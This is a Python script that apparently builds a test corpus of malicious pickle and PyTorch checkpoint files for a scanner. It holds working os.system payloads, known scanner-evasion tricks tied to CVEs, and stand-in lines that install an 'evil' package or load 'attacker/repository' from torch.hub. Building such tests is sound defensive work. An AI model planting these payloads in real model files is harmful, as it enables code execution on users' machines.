"""Section 12, first rows: pickles that call something. Each that Python would really run is run by Python here,
in a folder of its own, and must leave its mark there; zoo must show it and leave none.
"""

import subprocess
import sys
import tempfile

from assemble import *

RUN = """
import pickle, sys
class Loader(pickle.Unpickler):
    def persistent_load(self, pid):
        return pid
    def find_class(self, module, name):
        if module.startswith("torch"):
            return lambda *arguments: arguments
        return super().find_class(module, name)
try:
    Loader(open(sys.argv[1], "rb")).load()
except Exception:
    pass
"""


def live(file, value, protocol=2, **options):
    """A checkpoint that runs COMMAND when Python unpickles it."""
    pickle = pickled(value, protocol)
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder, "data.pkl")
        path.write_bytes(pickle)
        subprocess.run([sys.executable, "-c", RUN, path], cwd=folder, check=True)
        if not pathlib.Path(folder, "zoo-canary").exists():
            raise ValueError(f"{file}: Python runs nothing of it")
    write(file, archive(records(pickle, **options)))


def dead(file, value, protocol=2):
    """A checkpoint whose call needs a package, a network or a reader's mistake."""
    write(file, checkpoint(value, protocol))


SYSTEM_CALL = name("os", "system")
IMPORT_OS = call(name("builtins", "__import__"), text("os"))
MAP = name("builtins", "map")


def opcodes():
    # The plain form, CVE-2025-32434's payload once weights_only was circumvented.
    live("call_reduce.pth", beside(ATTACK))
    # bytes.__new__(map.__new__(map, os.system, [command])): no REDUCE, and the call comes from iterating.
    lazy = MAP + tuple_of(SYSTEM_CALL, list_of(text(COMMAND))) + b"\x81"
    live("call_newobj.pth", beside(name("builtins", "bytes") + lazy + b"\x85\x81"))
    # The same by NEWOBJ_EX, with empty keyword arguments.
    lazy = MAP + tuple_of(SYSTEM_CALL, list_of(text(COMMAND))) + b"}\x92"
    live("call_newobj_ex.pth", beside(name("builtins", "bytes") + lazy + b"\x85}\x92"), 4)
    # INST and OBJ of protocols 0 and 1, which scanners forget.
    live("call_inst.pth", beside(b"(" + text(COMMAND) + b"ios\nsystem\n"))
    live("call_obj.pth", beside(b"(" + SYSTEM_CALL + text(COMMAND) + b"o"))
    # BUILD with {"__setstate__": os.system}, then BUILD with the command: no call is spelled out.
    plain = name("types", "SimpleNamespace") + b")\x81" + dict_of((text("__setstate__"), SYSTEM_CALL)) + b"b"
    live("call_build_setstate.pth", beside(plain + text(COMMAND) + b"b"))
    # The global's name comes from the stack, where it can be computed.
    live("call_stack_global.pth", beside(text("os") + text("system") + b"\x93" + text(COMMAND) + b"\x85R"), 4)
    # A dotted name reaches attributes of what it names.
    live("call_dotted_name.pth", beside(text("os") + text("system.__call__") + b"\x93" + text(COMMAND) + b"\x85R"), 4)
    # Protocol 0, Python 2's module name.
    live("call_python2_eval.pth", b"c__builtin__\neval\n(S'__import__(\"os\").system(\"" + COMMAND.encode() + b"\")'\ntR")
    # The extension registry could name anything.
    dead("call_extension.pth", beside(b"\x82\1" + text(COMMAND) + b"\x85R"))
    # Arguments that stay outside the pickle.
    dead("call_out_of_band.pth", beside(b"\x97"), 5)


def callables():
    code = f"__import__('os').system({COMMAND!r})"
    live("call_eval.pth", beside(call(name("builtins", "eval"), text(code))))
    live("call_exec.pth", beside(call(name("builtins", "exec"), text(code))))
    live("call_getattr.pth", beside(call(call(name("builtins", "getattr"), IMPORT_OS, text("system")), text(COMMAND))))
    live("call_partial.pth", beside(call(call(name("functools", "partial"), SYSTEM_CALL, text(COMMAND)))))
    live("call_map.pth", beside(call(name("builtins", "list"), call(MAP, SYSTEM_CALL, list_of(text(COMMAND))))))
    live("call_methodcaller.pth", beside(call(call(name("operator", "methodcaller"), text("system"), text(COMMAND)), IMPORT_OS)))
    live("call_subprocess.pth", beside(call(name("subprocess", "getoutput"), text(COMMAND))))
    # Modules of the standard library that take source code: picklescan's list grew by each of these.
    live("call_timeit.pth", beside(call(name("timeit", "timeit"), text(code), text("pass"), name("time", "time"), integer(1))))
    live("call_cprofile.pth", beside(call(name("cProfile", "run"), text(code))))
    live("call_runpy.pth", beside(call(name("runpy", "_run_code"), call(name("builtins", "compile"), text(code), text("x"), text("exec")), dict_of())))
    # A pickle inside the pickle.
    live("call_nested_pickle.pth", beside(call(name("pickle", "loads"), b"C" + bytes([len(pickled(ATTACK))]) + pickled(ATTACK))), 3)
    # torch.load inside torch.load: the same, for PyTorch.
    inner = legacy(ATTACK)
    dead("call_load_from_bytes.pth", beside(call(name("torch.storage", "_load_from_bytes"), b"B" + le(len(inner), 4) + inner)), 3)
    # CVE-2025-1716: installs a package, which runs its set-up.
    dead("call_pip_main.pth", beside(call(name("pip", "main"), list_of(text("install"), text("evil")))))
    dead("call_torch_hub.pth", beside(call(name("torch.hub", "load"), text("attacker/repository"), text("model"))))
    dead("call_numpy_runstring.pth", beside(call(name("numpy.testing._private.utils", "runstring"), text(code), dict_of())))
    # Callables that picklescan's and fickling's lists did not have (picklescan CVE-2025-10157 and later,
    # fickling CVE-2026-22608).
    gadgets = [
        "asyncio.unix_events _UnixSubprocessTransport._start", "bdb Bdb.run", "code InteractiveInterpreter.runcode",
        "ctypes CDLL", "doctest debug_script", "ensurepip._uninstall __main__", "idlelib.run Executive.runcode",
        "imaplib IMAP4_stream", "importlib import_module", "lib2to3.pgen2.pgen ParserGenerator.make_label",
        "logging.config fileConfig", "marshal loads", "profile Profile.run", "pty spawn", "pydoc pipepager",
        "shutil rmtree", "socket create_connection", "torch._dynamo.guards GuardBuilder.get",
        "torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression",
        "torch.jit.unsupported_tensor_ops execWrapper", "torch.utils._config_module ConfigModule.load_config",
        "torch.utils.bottleneck.__main__ run_cprofile", "trace Trace.run", "types FunctionType",
        "urllib.request urlopen", "webbrowser open",
    ]  # fmt: skip
    dead("call_gadgets.pth", beside(list_of(*(call(name(*gadget.split()), text(COMMAND)) for gadget in gadgets))))


def places():
    """The result stands where the reader may need a value."""
    # Thrown away at once: nothing of it is left to be seen.
    live("call_popped.pth", beside(ATTACK + POP + NONE))
    live("call_popped_to_mark.pth", beside(b"(" + ATTACK + b"1" + NONE))
    # Behind a good value, which STOP returns.
    live("call_below_stop.pth", ATTACK + beside(NONE))
    live("call_as_key.pth", beside(dict_of((ATTACK, integer(1)))))
    live("call_as_set_member.pth", beside(call(name("builtins", "set"), list_of(ATTACK))))
    live("call_as_size.pth", beside(tensor(size=ATTACK)))
    live("call_in_size.pth", beside(tensor(size=tuple_of(integer(2), ATTACK))))
    live("call_as_stride.pth", beside(tensor(stride=ATTACK)))
    live("call_as_offset.pth", beside(tensor(offset=ATTACK)))
    live("call_as_storage.pth", beside(tensor(of=ATTACK)))
    live("call_as_storage_key.pth", beside(tensor(of=storage(key=ATTACK))))
    live("call_as_storage_type.pth", beside(tensor(of=storage(kind=ATTACK))))
    live("call_as_storage_size.pth", beside(tensor(of=storage(numel=ATTACK))))
    live("call_as_location.pth", beside(tensor(of=storage(location=ATTACK))))
    live("call_as_persistent_id.pth", beside(ATTACK + b"Q"))
    live("call_as_rebuild.pth", beside(ATTACK + tuple_of(storage(), integer(0), integers(2, 3), integers(3, 1)) + b"R"))
    live("call_as_requires_grad.pth", beside(tensor(more=ATTACK + b"}")))
    # What PyTorch does not look at either: the tensor is good.
    live("call_as_hooks.pth", beside(tensor(more=FALSE + ATTACK)))
    live("call_as_conj.pth", beside(tensor(more=FALSE + b"}" + dict_of((text("conj"), ATTACK)))))
    parameter = name("torch._utils", "_rebuild_parameter")
    live("call_as_parameter_hooks.pth", beside(call(parameter, tensor(), TRUE, ATTACK)))
    live("call_as_parameter_data.pth", beside(call(parameter, ATTACK, TRUE, b"}")))
    live("call_as_ordered_dict_state.pth", beside(call(name("collections", "OrderedDict")) + dict_of((text("_metadata"), ATTACK)) + b"b"))
    # A rebuild function that PyTorch calls with arguments of the file's choice.
    rebuild = name("torch._tensor", "_rebuild_from_type_v2")
    dead("call_rebuild_from_type.pth", beside(call(rebuild, SYSTEM_CALL, name("torch", "Tensor"), tuple_of(text(COMMAND)), NONE)))
    dead("call_rebuild_of_rebuild.pth", beside(call(rebuild, rebuild, name("torch", "Tensor"), tuple_of(SYSTEM_CALL), NONE)))
    # Persistent ids: the name of the loader is not the file's to choose.
    dead("call_persid_text.pth", beside(b"Pos.system\n"))
    dead("call_persid_module.pth", beside(tuple_of(text("module"), SYSTEM_CALL, text("x.py"), text("code")) + b"Q"))
    dead("call_persid_class.pth", beside(SYSTEM_CALL + b"Q"))
    # The elements of an array of objects are pickled values.
    dtype = call(name("numpy", "dtype"), text("O8"), FALSE, TRUE)
    array = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), integers(0), text("b"))
    dead("call_in_numpy_objects.pth", beside(array + tuple_of(integer(1), integers(1), dtype, FALSE, list_of(ATTACK)) + b"b"))
    # Modules whose hooks are functions.
    state = dict_of((text("_parameters"), dict_of()), (text("_buffers"), dict_of()), (text("_modules"), dict_of()),
                    (text("_forward_hooks"), dict_of((integer(0), SYSTEM_CALL))), (text("x"), ATTACK))  # fmt: skip
    live("call_in_module.pth", name("types", "SimpleNamespace") + b")\x81" + state + b"b")


def hidden():
    """From scanners: by name, by what follows, by what is broken."""
    # CVE-2025-1889, CVE-2025-10155: a scanner that goes by the extension does not look.
    live("call_named.safetensors", beside(ATTACK))
    live("call_named.txt", beside(ATTACK))
    # nullifAI: Python has run the call when it meets the broken opcode; a scanner gives up before.
    live("call_then_broken.pth", beside(ATTACK) + b"\xff")
    live("call_then_cut_off.pth", beside(ATTACK) + b"X\xff\xff\xff\0")
    # A second pickle: never read.
    write("call_after_stop.pth", archive(records(pickled(beside(NONE)) + pickled(ATTACK))))
    # nullifAI: a 7z archive with a checkpoint in it.
    write("call_in_7z.pth", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24) + checkpoint(ATTACK))
    # CVE-2025-10156: a wrong CRC makes a scanner give up; the pickle is not read either.
    bad = records(pickled(beside(ATTACK)))
    bad[0].crc ^= 1
    write("call_with_wrong_crc.pth", archive(bad))


def old():
    # A legacy file's five pickles are five chances. The first is compared, not computed.
    run = call(name("builtins", "eval"), text(f"__import__('os').system({COMMAND!r}) or 0x1950a86a20f9469cfc6c"))
    write("legacy_magic_computed.pth", legacy(beside(NONE), magic=pickled(run)))
    write("legacy_magic_then_call.pth", legacy(beside(NONE), magic=MAGIC[:-1] + POP + run + b"."))
    write("legacy_protocol_computed.pth", legacy(beside(NONE), protocol=pickled(run)))
    write("legacy_system_computed.pth", legacy(beside(NONE), system=pickled(run)))
    write("legacy_call_in_system.pth", legacy(beside(NONE), system=pickled(dict_of((text("x"), ATTACK)))))
    write("legacy_call.pth", legacy(beside(ATTACK)))
    write("legacy_keys_computed.pth", legacy(beside(NONE), keys=pickled(run)))
    write("legacy_call_in_keys.pth", legacy(beside(NONE), keys=pickled(list_of(ATTACK))))
    write("legacy_pickle_at_the_end.pth", legacy(beside(NONE)) + pickled(ATTACK))
    # The class of a module comes with its source text, which nobody compiles.
    module = tuple_of(text("module"), name("evil", "Net"), text("net.py"), text("import os")) + b"Q"
    write("legacy_module_source.pth", legacy(beside(module + b")\x81")))
    # A plain pickle.
    write("plain_pickle.pkl", pickled(ATTACK))


def make():
    opcodes()
    callables()
    places()
    hidden()
    old()
